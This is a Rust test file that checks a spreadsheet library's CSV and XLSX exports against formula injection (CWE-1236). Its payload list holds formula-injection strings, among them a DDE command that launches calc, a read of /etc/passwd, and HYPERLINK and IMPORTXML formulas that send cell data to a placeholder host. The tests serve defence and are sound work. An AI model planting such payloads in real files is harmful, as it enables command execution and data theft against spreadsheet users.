//! ATTACKS.md row 17, CWE-1236: no cell of an export is ever a formula, whoever reads it and however.

use std::io::Read as _;

use entente_sheet::{Cell, Sheet, delimited, guard, workbook};

const SIGNS: [&str; 10] = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠"];
const BODIES: [&str; 6] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://192.0.2.1/?x=\"&A1;\"open\")",
    "SUM(A1:A9)*IMPORTXML(CONCAT(\"http://192.0.2.1/\",A1),\"//a\")",
    "DDE(\"soffice\";\"/etc/passwd\")",
    "2\n=3",
];
const BEFORE: [&str; 9] = ["", " ", "\u{FEFF}", "\"", "a;", "a\",", "a\t", "a\r\n", "'"];
const COLUMNS: usize = 5;

/// 60 payloads, and each after what could make a reader begin a new cell.
fn payloads() -> Vec<String> {
    let all = SIGNS.iter().flat_map(|sign| BODIES.map(|body| format!("{sign}{body}")));
    let all: Vec<String> = all.collect();
    assert_eq!(all.len(), 60);
    all.iter().flat_map(|one| BEFORE.map(|before| format!("{before}{one}"))).collect()
}

/// One row for each payload and column: the payload there, harmless texts and a number beside it.
fn sheet() -> Sheet {
    let row = |payload: &str, at: usize| {
        let text = |column| if column == at { payload } else { "plain" };
        let texts = (0..COLUMNS).map(|column| Cell::Text(text(column).to_owned()));
        texts.chain([Cell::Number(-5.5)]).collect::<Vec<_>>()
    };
    let rows = payloads();
    let rows = rows.iter().flat_map(|one| (0..COLUMNS).map(move |at| row(one, at)));
    Sheet::of("Out", &["A", "B", "C", "D", "E", "F"], rows)
}

fn is_formula(piece: &str) -> bool {
    let skipped = |c: char| c.is_whitespace() || c.is_control() || c == '"' || c == '\u{FEFF}';
    let piece = piece.trim_start_matches(skipped).trim_end_matches(skipped);
    piece.starts_with(guard::evaluates) && piece.parse::<f64>().is_err()
}

#[test]
fn no_reader_of_csv_finds_a_formula() {
    let bytes = delimited::write(&sheet()).unwrap();
    let text = String::from_utf8(bytes.clone()).unwrap();
    let mut cells = 0;
    // Readers that honour quotes, whichever separator they take.
    for separator in [b',', b';', b'\t', b'|'] {
        let mut reader = csv::ReaderBuilder::new();
        let mut reader =
            reader.has_headers(false).flexible(true).delimiter(separator).from_reader(&*bytes);
        for record in reader.records() {
            for field in &record.unwrap() {
                cells += 1;
                assert!(!is_formula(field), "{field:?}");
            }
        }
    }
    assert!(cells > 4 * 60 * COLUMNS, "{cells}");
    // Readers that do not.
    for piece in text.split([',', ';', '\t', '|', '\r', '\n', '"']) {
        assert!(!is_formula(piece), "{piece:?}");
    }
    // It reads back as it was, number and text.
    let back = delimited::read(&bytes, "Out").unwrap();
    for (place, cell) in &sheet().cells {
        let read = &back.cells[place];
        if let Cell::Text(_) = cell {
            assert_eq!(read, cell, "{place}");
        } else {
            assert_eq!(read.shown(), cell.shown(), "{place}");
        }
    }
    assert_eq!(back.cells.len(), sheet().cells.len());
}

#[test]
fn an_xlsx_has_no_formula_and_reads_back() {
    let bytes = workbook::write(&[sheet()]).unwrap();
    assert_eq!(bytes, workbook::write(&[sheet()]).unwrap(), "the same sheets give the same bytes");
    let mut parts = zip::ZipArchive::new(std::io::Cursor::new(&bytes)).unwrap();
    for index in 0..parts.len() {
        let mut part = parts.by_index(index).unwrap();
        let name = part.name().unwrap().into_owned();
        let mut xml = String::new();
        part.read_to_string(&mut xml).unwrap();
        for tag in ["<f>", "<f ", "<hyperlink", "ddeLink", "externalReference"] {
            assert!(!xml.contains(tag), "{name} has {tag}");
        }
        if name.ends_with("styles.xml") {
            assert!(xml.contains("quotePrefix=\"1\""), "an edited text stays a text");
        }
    }
    let back = workbook::read(&bytes).unwrap();
    assert_eq!(back.len(), 1);
    for (place, cell) in &sheet().cells {
        assert_eq!(back[0].cells[place], *cell, "{place}");
    }
}
